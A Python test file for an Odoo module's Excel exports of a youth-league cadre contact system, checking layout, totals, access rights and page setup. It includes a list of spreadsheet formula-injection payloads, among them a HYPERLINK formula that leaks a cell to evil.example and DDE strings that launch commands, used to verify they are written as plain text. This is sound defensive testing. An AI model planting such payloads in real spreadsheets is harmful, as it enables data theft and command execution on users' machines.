# -*- coding: utf-8 -*-
"""Every export is read back with openpyxl and checked cell by cell."""
import io

import openpyxl

from odoo.exceptions import AccessError

from .common import EvaluationTestCase

#: User texts that a spreadsheet would run as formulas (or turn into links)
#: if they were not written as texts.
INJECTIONS = ['=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', '+1+2', '-3+cmd|\' /C calc\'!A0',
              '@SUM(1+1)*cmd|\' /C calc\'!A0', '{=1+1}', 'http://evil.example/']


def assertTexts(test, book, texts):
    """Every text of ``texts`` is in a cell of ``book`` as that literal string;
    the book has no formula and no link at all."""
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                test.assertNotEqual(cell.data_type, 'f', 'formula in %s!%s: %r'
                                    % (sheet.title, cell.coordinate, cell.value))
                test.assertIsNone(cell.hyperlink, 'link in %s!%s' % (sheet.title, cell.coordinate))
                if isinstance(cell.value, str):
                    found.setdefault(cell.value, cell)
    for text in texts:
        test.assertIn(text, found, 'text %r not in the workbook' % text)
        test.assertEqual(found[text].data_type, 's')


class TestExports(EvaluationTestCase):

    @classmethod
    def setUpClass(cls):
        super(TestExports, cls).setUpClass()
        cls.county_a.write({'admin_user_id': cls.user_admin_a.id, 'admin_mobile': '13800138000'})
        cls.county_b.write({'admin_mobile': '13900139000'})
        cls.user_admin_a.partner_id.mobile = '13700137000'
        Concern = cls.env['league.concern']

        def concern(cadre, youth, kind, name, date):
            return Concern.create({'cadre_id': cadre.id, 'youth_id': youth.id, 'kind': kind,
                                   'name': name, 'description': name + '的详细情况',
                                   'date': date})
        cls.concern_a1 = concern(cls.cadre_a2, cls.youth_x[0], 'difficulty', '就业困难', '2025-03-01')
        cls.concern_a2 = concern(cls.cadre_a, cls.youth_y[0], 'difficulty', '创业资金', '2025-02-01')
        cls.concern_a3 = concern(cls.cadre_a, cls.youth_y[1], 'confusion', '职业规划', '2025-04-01')
        closed = concern(cls.cadre_a, cls.youth_y[2], 'suggestion', '多办活动', '2025-04-02')
        closed.write({'answer': '已安排'})
        closed.action_answer()
        closed.action_close()
        cls.concern_b = concern(cls.cadre_b, cls.youth_b1, 'suggestion', '增加培训', '2025-05-01')
        # a special unit: ranked on a sheet of its own
        cls.special, _cadres, _units = cls.make_county('市直和驻梅单位团组织', 1, units=1)
        cls.special.write({'is_special': True})
        cls.evaluation = cls.make_evaluation()
        cls.evaluation.action_compute()
        cls.evaluation.action_publish()

    def export(self, user, kind, ids=None):
        return openpyxl.load_workbook(io.BytesIO(self.render_xlsx(user, kind, ids)))

    @staticmethod
    def rows(sheet, first=4):
        rows = []
        for row in sheet.iter_rows(min_row=first):
            values = [cell.value for cell in row]
            while values and values[-1] is None:
                values.pop()
            rows.append(values)
        return rows

    @staticmethod
    def header(sheet, row=3):
        values = [cell.value for cell in sheet[row]]
        while values and values[-1] is None:
            values.pop()
        return values

    def assertInjectionsAreTexts(self, book, texts=INJECTIONS):
        assertTexts(self, book, texts)

    def assertTitleBlock(self, sheet, title, period_text, freeze='A4', narrow=False):
        """Title, period and exporter in their cells; a ``narrow`` table has
        the parts of an info line in one cell over its width (a text beyond
        the table would be printed on a page of its own)."""
        self.assertEqual(sheet['A1'].value, title)
        self.assertIn('A1', [str(r).split(':')[0] for r in sheet.merged_cells.ranges])
        self.assertTrue(sheet['A2'].value.startswith(period_text))
        if narrow:
            self.assertIn('\u3000Exported by: ', sheet['A2'].value)
            self.assertIn('A2', [str(r).split(':')[0] for r in sheet.merged_cells.ranges])
        else:
            self.assertTrue(sheet['C2'].value.startswith('Exported by: '))
        self.assertEqual(sheet.freeze_panes, freeze)

    # ------------------------------------------------------------------
    def test_ranking_city(self):
        book = self.export(self.user_city, 'ranking', self.evaluation.ids)
        special = self.evaluation.county_line_ids.filtered('is_special')
        self.assertEqual(special.mapped('county_id'), self.special)
        self.assertEqual(book.sheetnames, ['Counties', 'Special Units', 'Cadres'])
        cadres = book['Cadres']
        self.assertTitleBlock(cadres, 'Ranking of the direct contact of cadres with youth',
                              'Period: 2025, first half')
        self.assertEqual(self.header(cadres)[:9], [
            'Rank', 'Rank in County', 'Cadre', 'County', 'Organization', 'Category',
            'Leadership Member', 'Youth Quota', 'Youth Contacted'])
        self.assertEqual(self.header(cadres)[-1], 'Total Score')
        rows = self.rows(cadres)
        self.assertEqual(len(rows), 13)             # 12 cadres (the special unit's one) and the total
        first = rows[0]
        self.assertEqual(first[:9], [1, 1, '李娜', '梅江区团委', '梅江区某企业团支部',
                                     'Other Part-time Cadre', '', 10, 5])
        self.assertEqual(first[9], 50)               # coverage
        self.assertEqual(first[10], '—')             # sector spread does not apply
        self.assertAlmostEqual(first[-1], 59.28, delta=0.01)
        self.assertEqual(cadres.cell(row=4, column=len(first)).number_format, '0.00')
        total = rows[-1]
        self.assertEqual(total[0], 'Total')
        self.assertEqual(total[7], sum(r[7] for r in rows[:-1]))
        self.assertEqual(total[8], 12)
        self.assertTrue(cadres.column_dimensions['E'].width >= 20)
        counties = book['Counties']
        self.assertEqual(self.header(counties)[:4],
                         ['Rank', 'County', 'Cadres Evaluated', 'Contacts of the Cadres'])
        names = [r[1] for r in self.rows(counties)]
        self.assertIn('测试县', names)
        self.assertEqual(names[-1], '')               # the total row
        self.assertEqual(self.rows(counties)[-1][0], 'Total')

    def test_ranking_of_a_county_has_only_its_cadres(self):
        book = self.export(self.user_admin_a, 'ranking', self.evaluation.ids)
        rows = self.rows(book['Cadres'])
        self.assertEqual([r[2] for r in rows[:-1]], ['李娜', '张伟'])
        self.assertEqual(rows[-1][8], 12)
        # the county ranking is public, as in the bulletin
        self.assertEqual(len(self.rows(book['Counties'])) - 1,
                         len(self.evaluation.county_line_ids.filtered(
                             lambda line: not line.is_special)))
        own = self.export(self.user_cadre_b, 'bulletin', self.evaluation.bulletin_id.ids)
        self.assertEqual([r[2] for r in self.rows(own['Cadres'])[:-1]], ['王芳'])

    def test_compliance_list(self):
        book = self.export(self.user_admin_a, 'compliance')
        sheet = book['Compliance']
        self.assertTitleBlock(sheet, 'Cadre compliance list', 'Period: as of ')
        header = self.header(sheet)
        self.assertEqual(header[:10], ['No.', 'Cadre', 'County', 'Organization', 'Category',
                                       'Leadership Member', 'Youth Quota', 'Youth Contacted',
                                       'Quota Completion', 'Sectors Covered'])
        self.assertIn('"4+1" Compliance', header)
        rows = self.rows(sheet)
        # by county, organization and name
        self.assertEqual([r[1] for r in rows[:-1]], ['李娜', '张伟'])
        li, zhang, total = rows
        self.assertEqual(zhang[6:10], [100, 7, 0.07, 7])
        self.assertEqual(li[6:10], [10, 5, 0.5, 2])
        self.assertEqual(li[4], 'Other Part-time Cadre')
        self.assertEqual(sheet.cell(row=4, column=9).number_format, '0.0%')
        self.assertEqual(zhang[header.index('"4+1" Weeks Met')], '—')   # not an organ cadre
        self.assertEqual(zhang[header.index('"8+4" This Year')], '—')   # not established
        self.assertEqual(total[0], 'Total')
        self.assertEqual(total[6:8], [110, 12])
        self.assertAlmostEqual(total[8], 12 / 110.0)
        # a cadre exports their own line
        book = self.export(self.user_cadre_a, 'compliance')
        self.assertEqual([r[1] for r in self.rows(book['Compliance'])], ['张伟', '1 cadres'])
        # a county user printing a cadre of another county is refused
        with self.assertRaises(AccessError):
            self.export(self.user_admin_a, 'compliance', (self.cadre_b | self.cadre_a).ids)
        with self.assertRaises(AccessError):
            self.export(self.user_admin_b, 'compliance', self.cadre_a.ids)
        book = self.export(self.user_admin_b, 'compliance', self.cadre_b.ids)
        self.assertEqual([r[1] for r in self.rows(book['Compliance'])[:-1]], ['王芳'])
        # organ cadres: "4+1" from the weekly compliance, "8+4" from this year's plan
        book = self.export(self.user_city, 'compliance', self.cadres_c.ids)
        rows = self.rows(book['Compliance'])
        self.assertEqual(len(rows), 9)
        weekly = self.env['league.grassroots.compliance'].search(
            [('cadre_id', '=', self.cadres_c[0].id)])
        self.assertEqual(rows[0][header.index('"4+1" Weeks Met')], weekly.weeks_met)
        self.assertEqual(rows[0][header.index('"8+4" This Year')], 'Not assigned')

    def test_problem_list(self):
        book = self.export(self.user_admin_a, 'problems')
        self.assertEqual(book.sheetnames, ['Problem List', 'Summary'])
        sheet = book['Problem List']
        self.assertTitleBlock(sheet, 'Problem list of the youth in contact', 'Period: as of ')
        self.assertEqual(self.header(sheet), [
            'No.', 'County', 'Youth', 'Responsible Cadre', 'Raised On', 'Status',
            'Escalation Route', 'Subject', 'Description', 'Subtotal'])
        rows = self.rows(sheet)
        self.assertEqual(rows[0][0], 'Ideological Confusion (1)')
        self.assertEqual(rows[1][:4], [1, '梅江区团委', self.youth_y[1].name, '张伟'])
        self.assertEqual(rows[1][4].strftime('%Y-%m-%d'), '2025-04-01')
        self.assertEqual(rows[1][7], '职业规划')
        self.assertEqual(len(rows[1]), 9)       # nothing in the subtotal column
        # the count of a county in its own column, not under the youth
        self.assertEqual(rows[2], ['Subtotal', '梅江区团委'] + [None] * 7 + [1])
        self.assertEqual(sheet.cell(row=6, column=10).number_format, '0')
        self.assertEqual(rows[3][0], 'Practical Difficulty (2)')
        self.assertEqual([r[7] for r in rows[4:6]], ['创业资金', '就业困难'])   # by date
        self.assertEqual(rows[6], ['Subtotal', '梅江区团委'] + [None] * 7 + [2])
        self.assertEqual(len(rows), 7)          # no closed concern, nothing of county B
        summary = self.rows(book['Summary'])
        self.assertEqual(self.header(book['Summary']), [
            'County', 'Ideological Confusion', 'Practical Difficulty', 'Opinion / Suggestion',
            'Total'])
        self.assertEqual(summary, [['梅江区团委', 1, 2, 0, 3], ['Total', 1, 2, 0, 3]])
        # the city sees county B too
        summary = self.rows(self.export(self.user_city, 'problems')['Summary'])
        self.assertIn(['兴宁市团委', 0, 0, 1, 1], summary)

    def test_halfyear_report(self):
        report = self.env['league.halfyear.report'].sudo(self.user_admin_a).create({
            'year': '2025', 'half': '1', 'work_summary': '开展联系青年工作',
            'problems': '面对面交流偏少'})
        report.action_refresh_figures()
        book = self.export(self.user_admin_a, 'halfyear', report.ids)
        sheet = book['Half-year Report']
        self.assertTitleBlock(sheet, report.name, 'Period: 2025-01-01 - 2025-06-30', 'A5',
                              narrow=True)
        self.assertTrue(sheet['A3'].value.startswith('Status: '))
        self.assertEqual(self.header(sheet, 4), ['Item', 'Figure'])
        figures = {r[0]: (r[1] if len(r) > 1 else None) for r in self.rows(sheet, 5) if r}
        self.assertEqual(figures['Cadres'], 2)
        self.assertEqual(figures['Youth in Contact'], 12)
        self.assertEqual(figures['Contact Logs'], 10)
        self.assertEqual(figures['Concerns Raised'], 4)
        self.assertEqual(figures['Satisfaction Ratings'], 2)
        self.assertAlmostEqual(figures['Average Satisfaction'], 4.5)
        self.assertEqual(figures['Work Carried Out'], None)      # label of the text below
        texts = [r[0] for r in self.rows(sheet, 5) if r]
        self.assertIn('开展联系青年工作', texts)
        self.assertIn('面对面交流偏少', texts)
        with self.assertRaises(AccessError):
            self.export(self.user_cadre_b, 'halfyear', report.ids)
        with self.assertRaises(AccessError):
            self.export(self.user_admin_b, 'halfyear', report.ids)

    def test_administrator_form(self):
        book = self.export(self.user_admin_a, 'admins')
        sheet = book['Administrators']
        self.assertEqual(sheet['A1'].value, 'Administrator information form of the '
                                            'cadre-youth contact management system')
        self.assertEqual(sheet['A2'].value,
                         'Filled in by: User admin_a\u3000\u3000Phone: 13700137000')
        # three columns: the parts of an info line in one cell over the table
        self.assertTrue(sheet['A3'].value.startswith('Period: as of '))
        self.assertIn('\u3000Exported by: ', sheet['A3'].value)
        self.assertEqual(self.header(sheet, 4), ['League Organization', 'Administrator Name',
                                                 'Mobile Number'])
        self.assertEqual(sheet.freeze_panes, 'A5')
        self.assertEqual(self.rows(sheet, 5), [['梅江区团委', 'User admin_a', '13800138000']])
        city = self.export(self.user_city, 'admins')['Administrators']
        rows = self.rows(city, 5)
        self.assertIn(['梅江区团委', 'User admin_a', '13800138000'], rows)
        self.assertIn(['兴宁市团委', '', '13900139000'], rows)
        self.assertNotIn('团梅州市委', [r[0] for r in rows])
        with self.assertRaises(AccessError):
            self.export(self.user_cadre_a, 'admins')

    def test_report_actions(self):
        """The exports are report_xlsx report actions in the Print menu of
        their models; the form buttons run them on the record."""
        expected = {'ranking': 'league.evaluation', 'bulletin': 'league.bulletin',
                    'compliance': 'league.cadre', 'problems': 'league.concern',
                    'halfyear': 'league.halfyear.report', 'admins': 'league.organization'}
        for kind, model in expected.items():
            report = self.env.ref('youth_contact_reports.report_%s_xlsx' % kind)
            self.assertEqual((report.report_type, report.model, report.binding_model_id.model,
                              report.binding_type),
                             ('xlsx', model, model, 'report'), kind)
            self.assertEqual(report.report_name, 'youth_contact_reports.%s_xlsx' % kind)
        # in the Print menu of a cadre for a cadre, of an organization for administrators only
        Actions = self.env['ir.actions.actions']

        def printable(user, model):
            return [action['report_name']
                    for action in Actions.sudo(user).get_bindings(model)['report']]
        self.assertIn('youth_contact_reports.compliance_xlsx',
                      printable(self.user_cadre_a, 'league.cadre'))
        self.assertIn('youth_contact_reports.admins_xlsx',
                      printable(self.user_admin_a, 'league.organization'))
        self.assertNotIn('youth_contact_reports.admins_xlsx',
                         printable(self.user_cadre_a, 'league.organization'))
        action = self.evaluation.sudo(self.user_city).action_export_xlsx()
        self.assertEqual((action['type'], action['report_type'], action['report_name']),
                         ('ir.actions.report', 'xlsx', 'youth_contact_reports.ranking_xlsx'))
        self.assertEqual(action['context']['active_ids'], self.evaluation.ids)
        action = self.evaluation.bulletin_id.sudo(self.user_cadre_b).action_export_xlsx()
        self.assertEqual(action['report_name'], 'youth_contact_reports.bulletin_xlsx')

    def assertPageSetup(self, sheet, landscape, header_row):
        """A4, fit to the page width, the header row on every page, page numbers."""
        setup = sheet.page_setup
        self.assertEqual(setup.paperSize, 9, sheet.title)                  # A4
        self.assertEqual(setup.orientation, 'landscape' if landscape else 'portrait',
                         sheet.title)
        self.assertTrue(sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title)
        # fitToWidth 1 is the default, not written
        self.assertEqual((setup.fitToWidth or 1, setup.fitToHeight), (1, 0), sheet.title)
        self.assertEqual(sheet.print_title_rows, '$%d:$%d' % (header_row, header_row), sheet.title)
        self.assertEqual(sheet.oddFooter.center.text, 'Page &P of &N', sheet.title)

    def test_page_setup(self):
        """Every export prints on A4, in landscape when its table is wide,
        scaled to the page width (its pages are counted by LibreOffice in
        tests/test_print_pdf.py)."""
        report = self.env['league.halfyear.report'].sudo(self.user_admin_a).create({
            'year': '2025', 'half': '1'})
        expected = [
            ('ranking', self.user_city, self.evaluation.ids,
             {'Counties': True, 'Special Units': True, 'Cadres': True}),
            ('compliance', self.user_admin_a, None, {'Compliance': True}),
            ('problems', self.user_admin_a, None, {'Problem List': True, 'Summary': False}),
            ('halfyear', self.user_admin_a, report.ids, {'Half-year Report': False}),
            ('admins', self.user_admin_a, None, {'Administrators': False}),
        ]
        for kind, user, ids, sheets in expected:
            book = self.export(user, kind, ids)
            self.assertEqual(book.sheetnames, list(sheets), kind)
            for name, landscape in sheets.items():
                sheet = book[name]
                header_row = int(sheet.freeze_panes[1:]) - 1
                self.assertPageSetup(sheet, landscape, header_row)
                # the column widths stay within a page: no column wider than
                # MAX_WIDTH but the texts that wrap
                for letter, dimension in sheet.column_dimensions.items():
                    self.assertLessEqual(dimension.width, 41, '%s %s' % (kind, letter))
        # in the user's language
        content, _type = self.env.ref('youth_contact_reports.report_admins_xlsx').sudo(
            self.user_admin_a).with_context(lang='zh_CN').render_xlsx([], {})
        book = openpyxl.load_workbook(io.BytesIO(content))
        self.assertEqual(book.worksheets[0].oddFooter.center.text, '第 &P 页，共 &N 页')

    def test_long_texts_wrap(self):
        """A long text wraps in its column and its row is high enough for it
        (LibreOffice does not grow a row with its wrapped text); the texts of
        the half-year report take a row per paragraph under their label."""
        self.concern_a1.write({'name': '就业困难' * 10, 'description': '详细情况' * 40})
        sheet = self.export(self.user_admin_a, 'problems')['Problem List']
        row = next(cell.row for cell in sheet['H'] if cell.value == '就业困难' * 10)
        self.assertTrue(sheet.cell(row=row, column=8).alignment.wrap_text)
        self.assertLessEqual(sheet.column_dimensions['H'].width, 21)
        # 160 wide characters in a column 40 wide: at least 8 lines of 15 points
        self.assertGreaterEqual(sheet.row_dimensions[row].height, 8 * 15)
        report = self.env['league.halfyear.report'].sudo(self.user_admin_a).create({
            'year': '2025', 'half': '1', 'work_summary': '第一段\n' + '第二段很长' * 30})
        sheet = self.export(self.user_admin_a, 'halfyear', report.ids)['Half-year Report']
        label = next(cell.row for cell in sheet['A'] if cell.value == 'Work Carried Out')
        self.assertEqual(sheet.cell(row=label + 1, column=1).value, '第一段')
        self.assertEqual(sheet.cell(row=label + 2, column=1).value, '第二段很长' * 30)
        # merged over the two columns (80 wide): 300 wide characters take 4 lines
        self.assertIn('A%d:B%d' % (label + 2, label + 2),
                      [str(r) for r in sheet.merged_cells.ranges])
        self.assertGreaterEqual(sheet.row_dimensions[label + 2].height, 4 * 15)

    def test_workbook_options(self):
        """report_xlsx creates the workbook with the options of youth_contact's
        workbooks: no formula, number or link made from a text."""
        for kind in ('ranking', 'bulletin', 'compliance', 'problems', 'halfyear', 'admins'):
            options = self.env['report.youth_contact_reports.%s_xlsx' % kind] \
                .get_workbook_options()
            self.assertEqual((options['strings_to_formulas'], options['strings_to_urls'],
                              options['strings_to_numbers']), (False, False, False))

    def test_file_names(self):
        self.assertEqual(self.env['report.youth_contact_reports.ranking_xlsx']._file_name(
            self.evaluation), 'Ranking 2025, first half.xlsx')
        self.assertEqual(self.env['report.youth_contact_reports.bulletin_xlsx']._file_name(
            self.evaluation.bulletin_id), 'Ranking 2025, first half.xlsx')
        ZhReport = self.env['report.youth_contact_reports.problems_xlsx'].with_context(
            lang='zh_CN')
        self.assertTrue(ZhReport._file_name(self.concern_a1).startswith('问题清单'))

    # ------------------------------------------------------------------
    # formula injection: user texts are written as texts in every export
    # ------------------------------------------------------------------
    def test_ranking_texts_are_not_formulas(self):
        self.cadre_a.name = INJECTIONS[0]
        self.cadre_a2.name = INJECTIONS[1]
        self.cadre_a.organization_id.name = INJECTIONS[2]
        self.cadre_a2.organization_id.name = INJECTIONS[3]
        self.county_a.name = INJECTIONS[4]
        self.cadre_b.name = INJECTIONS[5]
        book = self.export(self.user_city, 'ranking', self.evaluation.ids)
        self.assertInjectionsAreTexts(book)
        book = self.export(self.user_cadre_b, 'bulletin', self.evaluation.bulletin_id.ids)
        self.assertInjectionsAreTexts(book, [INJECTIONS[4], INJECTIONS[5]])

    def test_compliance_texts_are_not_formulas(self):
        self.cadre_a.name = INJECTIONS[0]
        self.cadre_a2.name = INJECTIONS[1]
        self.cadre_a.organization_id.name = INJECTIONS[2]
        self.cadre_a2.organization_id.name = INJECTIONS[3]
        self.county_a.name = INJECTIONS[4]
        book = self.export(self.user_admin_a, 'compliance')
        self.assertInjectionsAreTexts(book, INJECTIONS[:5])

    def test_problem_list_texts_are_not_formulas(self):
        self.concern_a1.write({'name': INJECTIONS[0], 'description': INJECTIONS[1]})
        self.concern_a2.write({'name': INJECTIONS[2], 'description': INJECTIONS[3]})
        self.concern_a3.write({'name': INJECTIONS[4], 'description': INJECTIONS[5]})
        self.youth_y[1].name = '=1+1'
        book = self.export(self.user_admin_a, 'problems')
        self.assertInjectionsAreTexts(book, INJECTIONS + ['=1+1'])

    def test_halfyear_texts_are_not_formulas(self):
        self.county_a.name = '=1+1'                 # the report's name is the title
        report = self.env['league.halfyear.report'].sudo(self.user_admin_a).create({
            'year': '2025', 'half': '1', 'work_summary': INJECTIONS[0],
            'highlights': INJECTIONS[1], 'problems': INJECTIONS[2],
            'next_steps': INJECTIONS[3]})
        self.assertTrue(report.name.startswith('=1+1'))
        book = self.export(self.user_admin_a, 'halfyear', report.ids)
        self.assertInjectionsAreTexts(book, INJECTIONS[:4] + [report.name])
        self.assertEqual(book['Half-year Report']['A1'].value, report.name)
        sheet = book['Half-year Report']
        cell = next(c for row in sheet.iter_rows() for c in row if c.value == INJECTIONS[0])
        self.assertEqual(cell.data_type, 's')

    def test_administrator_form_texts_are_not_formulas(self):
        self.user_admin_a.name = INJECTIONS[0]
        self.county_a.name = INJECTIONS[1]
        self.county_b.name = INJECTIONS[4]
        book = self.export(self.user_city, 'admins')
        self.assertInjectionsAreTexts(book, [INJECTIONS[0], INJECTIONS[1], INJECTIONS[4]])
        book = self.export(self.user_admin_a, 'admins')
        self.assertInjectionsAreTexts(book, [INJECTIONS[0], INJECTIONS[1]])
        self.assertTrue(book['Administrators']['A2'].value.startswith(
            'Filled in by: %s\u3000' % INJECTIONS[0]))
        self.assertEqual(book['Administrators']['A2'].data_type, 's')
